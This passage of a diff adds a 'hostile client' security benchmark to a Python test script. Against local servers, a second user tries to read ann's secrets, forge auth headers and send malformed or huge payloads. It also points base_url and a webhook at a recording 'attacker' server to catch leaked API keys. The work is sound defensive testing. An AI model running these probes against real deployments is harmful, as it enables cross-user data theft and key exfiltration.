@@ -14,15 +14,26 @@ scenario counts what it ran and what was lost; every loss count must be 0:
 4. **one user, many writers** - 8 processes end 8 sessions of the same user at once on one data
    directory (each repeats one fact): facts stored, duplicates of the repeated fact;
 5. **many users** - 100 users chat and end their sessions concurrently through the FastAPI example
-   (uvicorn on loopback, simulated model): facts stored per user, cross-user reads.
+   (uvicorn on loopback, simulated model): facts stored per user, cross-user reads;
+6. **hostile client** - against the authenticated LangGraph server (``langgraph dev --config
+   deploy/langgraph.json``) and the FastAPI example, bob (or no token, or an unknown one) reaches for
+   ann's memories, threads and store, for the deployment's settings (a ``base_url`` pointing at an
+   attacker's server on loopback that records every request) and sends input that is malformed or
+   huge: keys leaked, requests reaching the attacker, foreign reads and writes, 5xx answers, turns
+   stored without a reply (all must be 0) and bytes stored per byte sent (at most 2). Needs the
+   ``langgraph`` CLI (``langgraph-cli[inmem]``).
 
-    python benchmarks/faults.py [--quick] [--doc docs/reliability.md]
+    python benchmarks/faults.py [--quick] [--scenarios kills,...,hostile] [--doc docs/reliability.md]
+
+``--doc`` rewrites the parts of the doc whose scenarios ran: the table of scenarios 1-5, the
+"Hostile client" section, or both; ``--scenarios hostile --doc docs/reliability.md`` keeps the rest.
 """
 
 from __future__ import annotations
 
 import argparse
 import concurrent.futures as cf
+import contextlib
 import json
 import os
 import random
@@ -34,9 +45,11 @@ import tempfile
 import textwrap
 import threading
 import time
+from collections.abc import Iterator
 from dataclasses import dataclass, field
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
@@ -396,6 +409,923 @@ def many_users(root: Path, users: int) -> Scenario:
     return sc
 
 
+# ---- hostile client ---------------------------------------------------------------------------------------
+#: ann's secrets: a fact in long-term memory, one in her open session, one in her LangGraph store item.
+ANN_SECRETS = {"long-term memory": "QX7391ZEBRA", "open session": "VL5521KITE", "store item": "NT8830OPAL"}
+ANN_FACT = f"My vault code is {ANN_SECRETS['long-term memory']}."
+ANN_OPEN = f"My locker code is {ANN_SECRETS['open session']}."
+ASK = "What is my vault code and my locker code?"
+T_ANN, T_END, T_BOB = "2025-05-01T10:00:00+00:00", "2025-05-01T11:00:00+00:00", "2025-05-02T09:00:00+00:00"
+#: The deployment settings a client must not set, each with the value an attacker would send.
+DEPLOYMENT_KEYS = ("base_url", "provider", "model", "api_key", "data_dir", "namespace")
+BAD_TIMES = ("0001-01-01T00:00:00", "next tuesday", "2023-13-45T99:99:99", "9" * 1000)
+
+
+@dataclass
+class Hostile:
+    """What a hostile client achieved against one target: every count must be 0, and the data dir
+    may grow by at most ``RATIO_TARGET`` bytes per byte the hostile requests sent."""
+
+    target: str
+    attempts: int = 0
+    keys_leaked: int = 0
+    attacker_requests: int = 0
+    foreign_reads: int = 0
+    foreign_writes: int = 0
+    server_errors: int = 0
+    unanswered: int = 0
+    bytes_sent: int = 0
+    bytes_served: int = 0
+    bytes_stored: int = 0
+    statuses: dict[str, int] = field(default_factory=dict)
+    not_refused: list[str] = field(default_factory=list)
+    findings: list[str] = field(default_factory=list)
+    answers: list[str] = field(default_factory=list)
+    seconds: float = 0.0
+
+    RATIO_TARGET = 2.0
+
+    @property
+    def ratio(self) -> float:
+        return max(self.bytes_stored, 0) / max(self.bytes_sent, 1)
+
+    @property
+    def holes(self) -> int:
+        counts = (self.keys_leaked, self.attacker_requests, self.foreign_reads, self.foreign_writes)
+        return sum(counts) + self.server_errors + self.unanswered + int(self.ratio > self.RATIO_TARGET)
+
+
+class Attacker:
+    """An HTTP server on loopback standing in for an attacker's model endpoint: records every request
+    (method, path, headers, body) and answers 500."""
+
+    def __init__(self) -> None:
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        self.requests: list[tuple[str, str, dict[str, str], bytes]] = []
+        seen = self.requests
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *_args: object) -> None:
+                return
+
+            def _record(self) -> None:
+                length = int(self.headers.get("content-length") or 0)
+                body = self.rfile.read(min(length, 1 << 20)) if length else b""
+                seen.append((self.command, self.path, dict(self.headers.items()), body))
+                self.send_response(500)
+                self.send_header("content-length", "0")
+                self.end_headers()
+
+            do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = _record
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._server.daemon_threads = True
+        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
+        threading.Thread(target=self._server.serve_forever, daemon=True).start()
+
+    def carrying(self, secret: str) -> int:
+        return sum(1 for _, path, headers, body in self.requests if secret in f"{path}{headers}{body!r}")
+
+    def close(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+
+def _model_table() -> dict:
+    """The simulated model: extracts ann's vault fact at her session end, and answers with any of ann's
+    secrets its prompt shows (so a memory of ann's reaching bob's prompt shows in bob's reply)."""
+
+    def text(req: Request) -> str:
+        return " ".join(str(m.get("content", "")) for m in req.messages)
+
+    def key_events(req: Request) -> dict:
+        found = ANN_SECRETS["long-term memory"] in text(req)
+        return {"events": [{"turn": 1, "event": f"The user said: {ANN_FACT}"}] if found else []}
+
+    def respond(req: Request) -> str:
+        shown = [s for s in ANN_SECRETS.values() if s in text(req)]
+        return f"I remember: {', '.join(shown)}." if shown else "Noted."
+
+    return {
+        "Plan": {"needs_memory": "yes", "memory": "past", "tags": [], "time_expressions": []},
+        "Relevant": {"relevant": [1]},
+        "KeyEvents": key_events,
+        "respond": respond,
+    }
+
+
+def _dir_bytes(*dirs: Path) -> int:
+    """Bytes in the files under ``dirs`` at rest: each SQLite write-ahead log is first folded into its
+    database (a checkpoint, as SQLite does by itself), so a log's preallocated pages do not count."""
+    import sqlite3
+
+    for d in dirs:
+        for db in d.rglob("*-wal") if d.exists() else ():
+            with (
+                contextlib.suppress(sqlite3.Error),
+                contextlib.closing(sqlite3.connect(db.with_name(db.name[:-4]))) as c,
+            ):
+                c.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+    return sum(p.stat().st_size for d in dirs if d.exists() for p in d.rglob("*") if p.is_file())
+
+
+def _turn(text: str, when: str = T_BOB) -> dict:
+    return {"messages": [{"role": "user", "content": text}], "turn_time": when}
+
+
+_UNSET = object()
+
+
+class Prober:
+    """Sends hostile requests to one target and counts what they achieved: every answer is checked for
+    a 5xx, for ann's secrets (a foreign read) and for the deployment's API key (a leak)."""
+
+    def __init__(self, result: Hostile, base: str, key: str) -> None:
+        import httpx
+
+        self.r = result
+        self.key = key
+        self.client = httpx.Client(base_url=base, timeout=180)
+
+    def close(self) -> None:
+        self.client.close()
+
+    def _check(self, label: str, status: int | None, text: str, expect: str, sent: int) -> None:
+        r = self.r
+        r.attempts += 1
+        r.bytes_sent += sent
+        if status is not None and status < 300:
+            r.bytes_served += sent
+        name = str(status) if status is not None else "connection closed"
+        r.statuses[name] = r.statuses.get(name, 0) + 1
+        r.answers.append(f"{label} -> {name}: {text[:160]!r}")
+        if status is not None and status >= 500:
+            r.server_errors += 1
+            r.findings.append(f"5xx: {label} -> {status} {text[:300]!r}")
+        # a stream refused after its 200 header says so in an error event
+        refused = status is None or 400 <= status < 500 or (status == 200 and text.startswith("event: error"))
+        if expect == "4xx" and not refused:
+            r.not_refused.append(f"{label} -> {status}")
+        for where, secret in ANN_SECRETS.items():
+            if secret in text:
+                r.foreign_reads += 1
+                r.findings.append(f"foreign read ({where}): {label} -> {status} {text[:300]!r}")
+        if self.key in text:
+            r.keys_leaked += 1
+            r.findings.append(f"key in a response: {label} -> {status}")
+
+    def send(
+        self,
+        label: str,
+        method: str,
+        path: str,
+        *,
+        token: str | None = None,
+        auth: str | None = None,
+        json_body: object = _UNSET,
+        content: bytes | str | Iterator[bytes] | None = None,
+        params: dict | None = None,
+        headers: dict | None = None,
+        expect: str = "4xx",
+    ):
+        """One attempt; ``expect`` is ``4xx`` where it must be refused, ``any`` where it may be served
+        (as the attacker's own user: only what it achieved is counted)."""
+        import httpx
+
+        hdrs: dict[str, str] = {}
+        if auth is not None:
+            hdrs["Authorization"] = auth
+        elif token is not None:
+            hdrs["Authorization"] = f"Bearer {token}"
+        if json_body is not _UNSET:
+            content = json.dumps(json_body)
+            hdrs["Content-Type"] = "application/json"
+        hdrs.update(headers or {})
+        streamed = [0]
+        if content is not None and not isinstance(content, bytes | str):
+            chunks = content
+
+            def counted() -> Iterator[bytes]:
+                for chunk in chunks:
+                    streamed[0] += len(chunk)
+                    yield chunk
+
+            content = counted()
+        req = self.client.build_request(method, path, content=content, headers=hdrs, params=params)
+        head = len(f"{method} {req.url.raw_path.decode()} HTTP/1.1\r\n\r\n") + sum(
+            len(k) + len(v) + 4 for k, v in req.headers.items()
+        )
+        try:
+            resp = self.client.send(req)
+        except httpx.LocalProtocolError:
+            raise  # a request this client cannot send is a fault of the benchmark, not an answer
+        except httpx.TransportError:  # the server hung up on a refused body: only what it read counts
+            self._check(label, None, "", expect, head + streamed[0])
+            return None
+        body = streamed[0] if streamed[0] else len(req.content) if isinstance(content, bytes | str) else 0
+        self._check(label, resp.status_code, resp.text, expect, head + body)
+        return resp
+
+    def raw(self, label: str, data: bytes, expect: str = "4xx") -> None:
+        """An attempt sent as raw bytes on a socket (framing no HTTP client sends): status from the
+        first line of the answer, if any."""
+        host, port = self.client.base_url.host, self.client.base_url.port
+        answer = b""
+        with socket.create_connection((host, port), timeout=20) as s:
+            try:
+                s.sendall(data)
+                s.settimeout(20)
+                while b"\r\n\r\n" not in answer and len(answer) < 65536:
+                    chunk = s.recv(4096)
+                    if not chunk:
+                        break
+                    answer += chunk
+            except OSError:
+                pass
+        first = answer.split(b"\r\n", 1)[0].split()
+        status = int(first[1]) if len(first) > 1 and first[1].isdigit() else None
+        self._check(label, status, answer.decode("latin-1"), expect, len(data))
+
+
+def _bad_auths(known: str) -> list[str | None]:
+    """Authorization headers that name no user: none, empty, a guessed token, a near miss of a real
+    one, another scheme."""
+    import base64
+
+    return [
+        None,
+        "",
+        "Bearer",
+        "Bearer ann",
+        "Bearer " + known[:-1] + ("x" if known[-1] != "x" else "y"),
+        "Basic " + base64.b64encode(b"ann:" + known.encode()).decode(),
+        "Token " + known,
+    ]
+
+
+def _langgraph_cli() -> str | None:
+    import shutil
+
+    found = shutil.which("langgraph")
+    local = Path(sys.executable).parent / "langgraph"
+    return found or (str(local) if local.exists() else None)
+
+
+def _server_env(data: Path, ep: SimulatedEndpoint, key: str, tokens: dict[str, str]) -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("CAIM_", "OPENAI_", "LANGSMITH_", "LANGCHAIN_"))}
+    env.update(
+        CAIM_DATA_DIR=str(data),
+        CAIM_PROVIDER="openai",
+        CAIM_BASE_URL=ep.base_url,
+        CAIM_API_KEY=key,
+        CAIM_MODEL="sim",
+        CAIM_AUTH_TOKENS=json.dumps(tokens),
+        LANGGRAPH_CLI_NO_ANALYTICS="1",
+        LANGGRAPH_NO_VERSION_CHECK="true",
+        LANGSMITH_TRACING="false",
+        PYTHONUNBUFFERED="1",
+    )
+    return env
+
+
+def _stop(proc: subprocess.Popen) -> None:
+    if proc.poll() is None:
+        try:
+            os.killpg(proc.pid, signal.SIGTERM)
+            proc.wait(timeout=30)
+        except subprocess.TimeoutExpired:
+            os.killpg(proc.pid, signal.SIGKILL)
+            proc.wait(timeout=10)
+        except ProcessLookupError:
+            pass
+
+
+def hostile_langgraph(root: Path, exe: str, key: str, ep: SimulatedEndpoint, attacker: Attacker) -> Hostile:
+    """``langgraph dev --config deploy/langgraph.json`` (authenticated) against a hostile bob."""
+    import re
+
+    import httpx
+    from langgraph_sdk import get_sync_client
+
+    res = Hostile("LangGraph server (`deploy/langgraph.json`)")
+    work, data, elsewhere = root / "lg", root / "lg" / "data", root / "lg-elsewhere"
+    work.mkdir()
+    tokens = {f"tok-ann-{os.urandom(8).hex()}": "ann", f"tok-bob-{os.urandom(8).hex()}": "bob"}
+    ann_token, bob = list(tokens)
+    log_path = work / "server.log"
+    argv = [exe, "dev", "--config", str(ROOT / "deploy" / "langgraph.json"), "--no-browser", "--no-reload"]
+    with log_path.open("w") as log:
+        proc = subprocess.Popen(
+            [*argv, "--host", "127.0.0.1", "--port", str(_port())],
+            cwd=work,
+            env=_server_env(data, ep, key, tokens),
+            stdout=log,
+            stderr=subprocess.STDOUT,
+            start_new_session=True,
+        )
+    try:
+        deadline, url = time.monotonic() + 180, ""
+        while not url:
+            log_text = re.sub(r"\x1b\[[0-9;]*m", "", log_path.read_text(errors="replace"))
+            m = re.search(r"API: (http://127\.0\.0\.1:\d+)", log_text)
+            if m:
+                with contextlib.suppress(httpx.HTTPError):
+                    url = m.group(1) if httpx.get(m.group(1) + "/ok", timeout=2).status_code == 200 else ""
+            if proc.poll() is not None or time.monotonic() > deadline:
+                raise RuntimeError(f"langgraph dev did not start: {log_text[-800:]}")
+            time.sleep(0.3)
+
+        # ann: a fact in long-term memory, another in her open session, a note in her store
+        ann: Any = get_sync_client(url=url, api_key=None, headers={"Authorization": f"Bearer {ann_token}"})
+        ta = ann.threads.create()["thread_id"]
+        ann.runs.wait(ta, "caim", input=_turn(ANN_FACT, T_ANN))
+        stored = ann.runs.wait(ta, "caim", input={"end_session": True, "turn_time": T_END})["stored"]
+        ann.runs.wait(ta, "caim", input=_turn(ANN_OPEN, T_END))
+        ann.store.put_item(["ann", "notes"], "vault", {"text": f"note {ANN_SECRETS['store item']}"})
+        ann_run = ann.runs.list(ta)[0]["run_id"]
+        if not any(ANN_SECRETS["long-term memory"] in r["thought"] for r in stored):
+            raise RuntimeError(f"ann's fact was not stored: {stored}")
+
+        def ann_view() -> str:
+            return json.dumps(
+                [
+                    ann.threads.get_state(ta)["values"].get("messages"),
+                    [r["run_id"] for r in ann.runs.list(ta)],
+                    sorted(t["thread_id"] for t in ann.threads.search()),
+                    ann.store.get_item(["ann", "notes"], "vault")["value"],
+                    ann.store.list_namespaces()["namespaces"],
+                    ann.store.search_items(["ann"])["items"].__len__(),
+                ],
+                sort_keys=True,
+            )
+
+        before = ann_view()
+        bob_client: Any = get_sync_client(url=url, api_key=None, headers={"Authorization": f"Bearer {bob}"})
+        tb = bob_client.threads.create()["thread_id"]
+        time.sleep(12)  # the dev server writes its state every 10 s: the baseline includes ann's turns
+        stored_before = _dir_bytes(data, work / ".langgraph_api")
+        seen_by_model, attacked = len(ep.requests), len(attacker.requests)
+
+        t0 = time.perf_counter()
+        p = Prober(res, url, key)
+        try:
+            assistant = bob_client.assistants.search(graph_id="caim")[0]["assistant_id"]
+            _hostile_langgraph_attempts(p, bob, ann_token, ta, tb, ann_run, assistant, attacker, elsewhere)
+            if ann_view() != before:
+                res.foreign_writes += 1
+                res.findings.append("ann's thread, runs, threads or store changed during the hostile phase")
+            for t in bob_client.threads.search(limit=100):
+                msgs = (bob_client.threads.get_state(t["thread_id"])["values"] or {}).get("messages") or []
+                res.unanswered += _unanswered([m["type"] for m in msgs])
+                for where, secret in ANN_SECRETS.items():
+                    if secret in json.dumps(msgs):
+                        res.foreign_reads += 1
+                        res.findings.append(f"foreign read ({where}) in bob's thread {t['thread_id']}")
+        finally:
+            p.close()
+        res.seconds = time.perf_counter() - t0
+    finally:
+        _stop(proc)
+    res.bytes_stored = _dir_bytes(data, work / ".langgraph_api") - stored_before
+    _after(res, ep, seen_by_model, attacker, attacked, key, data, stored, elsewhere)
+    return res
+
+
+def _hostile_langgraph_attempts(
+    p: Prober,
+    bob: str,
+    ann_token: str,
+    ta: str,
+    tb: str,
+    ann_run: str,
+    assistant: str,
+    attacker: Attacker,
+    elsewhere: Path,
+) -> None:
+    values = {
+        "base_url": attacker.url + "/v1",
+        "provider": "openai",
+        "model": "gpt-attacker",
+        "api_key": "sk-attacker",
+        "data_dir": str(elsewhere),
+        "namespace": "ann",
+    }
+    ask = _turn(ASK)
+    body: Any  # each attempt's JSON body, params or raw bytes
+    params: Any
+    raw: Any
+    # deployment settings in the context, in config.configurable, without a thread, in a batch, in a cron,
+    # in an assistant
+    for k in DEPLOYMENT_KEYS:
+        ctx = {k: values[k], "provider": "openai"} if k == "base_url" else {k: values[k]}
+        run = {"assistant_id": "caim", "input": ask}
+        p.send(f"context {k}", "POST", f"/threads/{tb}/runs/wait", token=bob, json_body={**run, "context": ctx})
+        conf = {**run, "config": {"configurable": ctx}}
+        p.send(f"configurable {k}", "POST", f"/threads/{tb}/runs/wait", token=bob, json_body=conf)
+        p.send(f"threadless run, context {k}", "POST", "/runs/wait", token=bob, json_body={**run, "context": ctx})
+        p.send(f"threadless stream, configurable {k}", "POST", "/runs/stream", token=bob, json_body=conf)
+        p.send(
+            f"background run, context {k}", "POST", f"/threads/{tb}/runs", token=bob, json_body={**run, "context": ctx}
+        )
+        p.send(f"batch, context {k}", "POST", "/runs/batch", token=bob, json_body=[{**run, "context": ctx}])
+        cron = {**run, "schedule": "* * * * *"}
+        p.send(f"cron, context {k}", "POST", f"/threads/{tb}/runs/crons", token=bob, json_body={**cron, "context": ctx})
+        p.send(
+            f"cron, configurable {k}", "POST", "/runs/crons", token=bob, json_body={**cron, "config": conf["config"]}
+        )
+        p.send(
+            f"assistant, context {k}", "POST", "/assistants", token=bob, json_body={"graph_id": "caim", "context": ctx}
+        )
+        p.send(
+            f"assistant patch, config {k}",
+            "PATCH",
+            f"/assistants/{assistant}",
+            token=bob,
+            json_body={"config": conf["config"]},
+        )
+    # who the run is for: the token's user, whatever the run names
+    for label, body in (
+        ("context user_id ann", {"context": {"user_id": "ann"}}),
+        ("configurable user_id ann", {"config": {"configurable": {"user_id": "ann"}}}),
+        ("configurable langgraph_auth_user_id", {"config": {"configurable": {"langgraph_auth_user_id": "ann"}}}),
+        ("checkpoint of ann's thread", {"checkpoint": {"thread_id": ta, "checkpoint_ns": ""}}),
+        ("metadata owner ann", {"metadata": {"owner": "ann"}}),
+    ):
+        p.send(
+            label,
+            "POST",
+            f"/threads/{tb}/runs/wait",
+            token=bob,
+            json_body={"assistant_id": "caim", "input": ask, **body},
+            expect="any",
+        )
+    p.send(
+        "webhook to the attacker",
+        "POST",
+        f"/threads/{tb}/runs/wait",
+        token=bob,
+        json_body={"assistant_id": "caim", "input": ask, "webhook": attacker.url + "/hook"},
+        expect="any",
+    )
+    # ann's thread and runs
+    turn = {"assistant_id": "caim", "input": ask}
+    for label, method, path, body in (
+        ("get ann's thread", "GET", f"/threads/{ta}", _UNSET),
+        ("ann's state", "GET", f"/threads/{ta}/state", _UNSET),
+        ("ann's history", "POST", f"/threads/{ta}/history", {"limit": 10}),
+        ("ann's history (GET)", "GET", f"/threads/{ta}/history", _UNSET),
+        (
+            "update ann's state",
+            "POST",
+            f"/threads/{ta}/state",
+            {"values": {"messages": [{"role": "user", "content": "planted"}]}},
+        ),
+        ("patch ann's thread", "PATCH", f"/threads/{ta}", {"metadata": {"owner": "bob"}}),
+        ("copy ann's thread", "POST", f"/threads/{ta}/copy", _UNSET),
+        ("run on ann's thread (wait)", "POST", f"/threads/{ta}/runs/wait", turn),
+        ("run on ann's thread (background)", "POST", f"/threads/{ta}/runs", turn),
+        ("run on ann's thread (stream)", "POST", f"/threads/{ta}/runs/stream", turn),
+        ("cron on ann's thread", "POST", f"/threads/{ta}/runs/crons", {**turn, "schedule": "* * * * *"}),
+        ("list ann's runs", "GET", f"/threads/{ta}/runs", _UNSET),
+        ("get ann's run", "GET", f"/threads/{ta}/runs/{ann_run}", _UNSET),
+        ("join ann's run", "GET", f"/threads/{ta}/runs/{ann_run}/join", _UNSET),
+        ("cancel ann's run", "POST", f"/threads/{ta}/runs/{ann_run}/cancel", _UNSET),
+        ("delete ann's run", "DELETE", f"/threads/{ta}/runs/{ann_run}", _UNSET),
+        ("join ann's thread stream", "GET", f"/threads/{ta}/stream", _UNSET),
+        ("prune ann's thread", "POST", "/threads/prune", {"thread_ids": [ta]}),
+        ("delete ann's thread", "DELETE", f"/threads/{ta}", _UNSET),
+        ("create a thread with ann's id", "POST", "/threads", {"thread_id": ta, "if_exists": "do_nothing"}),
+    ):
+        p.send(label, method, path, token=bob, json_body=body)
+    for label, body in (
+        ("search threads of owner ann", {"metadata": {"owner": "ann"}}),
+        ("search threads by ann's id", {"ids": [ta]}),
+        ("search threads with values", {"values": {"messages": []}}),
+    ):
+        p.send(label, "POST", "/threads/search", token=bob, json_body=body, expect="any")
+    p.send(
+        "count threads of owner ann",
+        "POST",
+        "/threads/count",
+        token=bob,
+        json_body={"metadata": {"owner": "ann"}},
+        expect="any",
+    )
+    p.send("search crons", "POST", "/runs/crons/search", token=bob, json_body={"thread_id": ta}, expect="any")
+    p.send(
+        "plant a thread in ann's list",
+        "POST",
+        "/threads",
+        token=bob,
+        json_body={"metadata": {"owner": "ann"}},
+        expect="any",
+    )
+    # ann's store
+    planted = {"text": "planted by bob"}
+    for label, method, path, body, params in (
+        (
+            "store put into ann's namespace",
+            "PUT",
+            "/store/items",
+            {"namespace": ["ann", "notes"], "key": "vault", "value": planted},
+            None,
+        ),
+        (
+            "store put, new key under ann",
+            "PUT",
+            "/store/items",
+            {"namespace": ["ann", "x"], "key": "k", "value": planted},
+            None,
+        ),
+        ("store put, no namespace", "PUT", "/store/items", {"namespace": [], "key": "k", "value": planted}, None),
+        (
+            "store put, ann second",
+            "PUT",
+            "/store/items",
+            {"namespace": ["notes", "ann"], "key": "k", "value": planted},
+            None,
+        ),
+        ("store get ann's item", "GET", "/store/items", _UNSET, {"namespace": "ann.notes", "key": "vault"}),
+        ("store get ann's item, top level", "GET", "/store/items", _UNSET, {"namespace": "ann", "key": "vault"}),
+        ("store search ann's prefix", "POST", "/store/items/search", {"namespace_prefix": ["ann"]}, None),
+        ("store search ann's namespace", "POST", "/store/items/search", {"namespace_prefix": ["ann", "notes"]}, None),
+        ("store list ann's namespaces", "POST", "/store/namespaces", {"prefix": ["ann"]}, None),
+        ("store delete ann's item", "DELETE", "/store/items", {"namespace": ["ann", "notes"], "key": "vault"}, None),
+    ):
+        p.send(label, method, path, token=bob, json_body=body, params=params)
+    for label, path, body in (
+        ("store search everything for the secret", "/store/items/search", {"namespace_prefix": [], "query": "vault"}),
+        ("store list namespaces by suffix", "/store/namespaces", {"suffix": ["notes"]}),
+        ("store list namespaces, depth 1", "/store/namespaces", {"max_depth": 1}),
+    ):
+        p.send(label, "POST", path, token=bob, json_body=body, expect="any")
+    # no token or an unknown one
+    for auth in _bad_auths(ann_token):
+        for label, method, path, body in (
+            ("create a thread", "POST", "/threads", {}),
+            ("ann's state", "GET", f"/threads/{ta}/state", _UNSET),
+            ("run on ann's thread", "POST", f"/threads/{ta}/runs/wait", turn),
+            (
+                "threadless run with base_url",
+                "POST",
+                "/runs/wait",
+                {**turn, "context": {"base_url": values["base_url"]}},
+            ),
+            ("store get ann's item", "GET", "/store/items?namespace=ann.notes&key=vault", _UNSET),
+            ("store search", "POST", "/store/items/search", {"namespace_prefix": []}),
+            ("search threads", "POST", "/threads/search", {}),
+        ):
+            p.send(f"{label}, auth {auth!r:.16}", method, path, auth=auth, json_body=body)
+    # input a client gets wrong or makes huge
+    bobs_run = f"/threads/{tb}/runs/wait"
+    for label, body in (
+        ("2,000,000-character message", {"assistant_id": "caim", "input": _turn("x" * 2_000_000)}),
+        ("201 messages", {"assistant_id": "caim", "input": {"messages": [{"role": "user", "content": "hi"}] * 201}}),
+        (
+            "1,000-character user id in context",
+            {"assistant_id": "caim", "input": ask, "context": {"user_id": "u" * 1000}},
+        ),
+        (
+            "1,000-character user id in configurable",
+            {"assistant_id": "caim", "input": ask, "config": {"configurable": {"user_id": "u" * 1000}}},
+        ),
+        ("unknown policy", {"assistant_id": "caim", "input": ask, "context": {"policy": "nope"}}),
+        ("1,000-character policy", {"assistant_id": "caim", "input": ask, "context": {"policy": "p" * 1000}}),
+        ("budget out of range", {"assistant_id": "caim", "input": ask, "context": {"candidate_cap": 10**9}}),
+        ("context not an object", {"assistant_id": "caim", "input": ask, "context": ["base_url", values["base_url"]]}),
+        (
+            "context and configurable both",
+            {
+                "assistant_id": "caim",
+                "input": ask,
+                "context": {"policy": "caim"},
+                "config": {"configurable": {"base_url": values["base_url"]}},
+            },
+        ),
+        (
+            "session end at 0001-01-01",
+            {"assistant_id": "caim", "input": {"end_session": True, "turn_time": "0001-01-01T00:00:00"}},
+        ),
+    ):
+        p.send(label, "POST", bobs_run, token=bob, json_body=body)
+    for when in BAD_TIMES:
+        p.send(
+            f"turn time {when[:20]!r}",
+            "POST",
+            bobs_run,
+            token=bob,
+            json_body={"assistant_id": "caim", "input": _turn("hello", when)},
+        )
+        cron = {"assistant_id": "caim", "schedule": "* * * * *", "input": _turn("hello", when)}
+        p.send(f"cron turn time {when[:20]!r}", "POST", f"/threads/{tb}/runs/crons", token=bob, json_body=cron)
+    for label, raw in (
+        ("malformed JSON", "{not json"),
+        ("JSON array", "[]"),
+        ("JSON null", "null"),
+        ("truncated JSON", '{"assistant_id": "caim", "input": {"messages": [{"role": "user", "content": "hi'),
+        ("nested 50,000 deep", "[" * 50_000 + "]" * 50_000),
+        ("assistant id a number", '{"assistant_id": 5, "input": {}}'),
+        (
+            "invalid UTF-8",
+            b'{"assistant_id": "caim", "input": {"messages": [{"role": "user", "content": "\xff\xfe"}]}}',
+        ),
+    ):
+        p.send(label, "POST", bobs_run, token=bob, content=raw, headers={"Content-Type": "application/json"})
+        p.send(
+            f"store put: {label}",
+            "PUT",
+            "/store/items",
+            token=bob,
+            content=raw,
+            headers={"Content-Type": "application/json"},
+        )
+
+
+def hostile_app(root: Path, key: str, ep: SimulatedEndpoint, attacker: Attacker) -> Hostile:
+    """The FastAPI example under uvicorn on loopback (bearer tokens, body limit) against a hostile bob."""
+    import httpx
+
+    res = Hostile("FastAPI example (`examples/fastapi_chat.py`)")
+    data = root / "app"
+    tokens = {f"tok-ann-{os.urandom(8).hex()}": "ann", f"tok-bob-{os.urandom(8).hex()}": "bob"}
+    ann_token, bob = list(tokens)
+    port = _port()
+    base = f"http://127.0.0.1:{port}"
+    err = (root / "app.log").open("w")
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "uvicorn",
+            "examples.fastapi_chat:create_app",
+            "--factory",
+            "--host",
+            "127.0.0.1",
+            "--port",
+            str(port),
+            "--log-level",
+            "warning",
+        ],
+        cwd=ROOT,
+        env=_server_env(data, ep, key, tokens),
+        stdout=subprocess.DEVNULL,
+        stderr=err,
+        start_new_session=True,
+    )
+    try:
+        deadline = time.monotonic() + 180
+        while True:
+            try:
+                if httpx.get(base + "/health", timeout=2).status_code == 200:
+                    break
+            except httpx.HTTPError:
+                pass
+            if proc.poll() is not None or time.monotonic() > deadline:
+                raise RuntimeError(f"the FastAPI example did not start: {(root / 'app.log').read_text()[-800:]}")
+            time.sleep(0.3)
+        ann = httpx.Client(base_url=base, timeout=180, headers={"Authorization": f"Bearer {ann_token}"})
+        ann.post("/chat", json={"message": ANN_FACT, "time": T_ANN}).raise_for_status()
+        ann.post("/session/end", json={"time": T_END}).raise_for_status()
+        ann_reply = ann.post("/chat", json={"message": ANN_OPEN, "time": T_END}).raise_for_status().json()["text"]
+        records = ann.get("/memories").raise_for_status().json()
+        if not any(ANN_SECRETS["long-term memory"] in r["thought"] for r in records):
+            raise RuntimeError(f"ann's fact was not stored: {records}")
+
+        def ann_view() -> str:
+            export = json.loads(ann.get("/memories/export").raise_for_status().text)["memories"]
+            return json.dumps([ann.get("/memories").raise_for_status().json(), export], sort_keys=True)
+
+        before = ann_view()
+        stored_before = _dir_bytes(data)
+        seen_by_model, attacked = len(ep.requests), len(attacker.requests)
+        t0 = time.perf_counter()
+        p = Prober(res, base, key)
+        try:
+            _hostile_app_attempts(p, bob, ann_token, records[0]["id"], attacker, root / "app-elsewhere")
+        finally:
+            p.close()
+        res.seconds = time.perf_counter() - t0
+        if ann_view() != before:
+            res.foreign_writes += 1
+            res.findings.append("ann's memories or export changed during the hostile phase")
+        grown = _dir_bytes(data)
+        ann.close()
+    finally:
+        _stop(proc)
+        err.close()
+    res.bytes_stored = max(grown, _dir_bytes(data)) - stored_before
+    with CaimAgent(Settings(data_dir=data, _env_file=None), background=False) as agent:
+        kept = [(m.type, m.content) for m in agent.state("ann")["messages"]]
+        if kept != [("human", ANN_OPEN), ("ai", ann_reply)]:
+            res.foreign_writes += 1
+            res.findings.append(f"ann's open session changed: {kept}")
+        res.unanswered += _unanswered([m.type for m in agent.state("bob")["messages"]])
+    _after(res, ep, seen_by_model, attacker, attacked, key, data, records, root / "app-elsewhere")
+    return res
+
+
+def _unanswered(types: list[str]) -> int:
+    """Turns stored without a reply: a human message not followed by an AI one."""
+    return sum(1 for i, t in enumerate(types) if t == "human" and "ai" not in types[i + 1 : i + 2])
+
+
+def _after(
+    res: Hostile,
+    ep: SimulatedEndpoint,
+    seen_by_model: int,
+    attacker: Attacker,
+    attacked: int,
+    key: str,
+    data: Path,
+    ann_records: list[dict],
+    elsewhere: Path,
+) -> None:
+    """Counts taken once the target has stopped: what reached the attacker, what of ann's the model saw
+    while serving the hostile client, ann's records and who else has any."""
+    hits = attacker.requests[attacked:]
+    res.attacker_requests += len(hits)
+    for method, path, headers, body in hits:
+        carried = key in f"{path}{headers}{body!r}"
+        res.keys_leaked += int(carried)
+        res.findings.append(f"attacker reached: {method} {path} (key {'carried' if carried else 'not carried'})")
+    for req in ep.requests[seen_by_model:]:
+        shown = [w for w, s in ANN_SECRETS.items() if s in json.dumps(req.messages)]
+        if shown:
+            res.foreign_reads += 1
+            res.findings.append(f"the model saw ann's {', '.join(shown)} while serving the hostile client ({req.role})")
+    if elsewhere.exists():
+        res.foreign_writes += 1
+        res.findings.append(f"a run created {elsewhere}")
+    with CaimAgent(Settings(data_dir=data, _env_file=None), background=False) as agent:
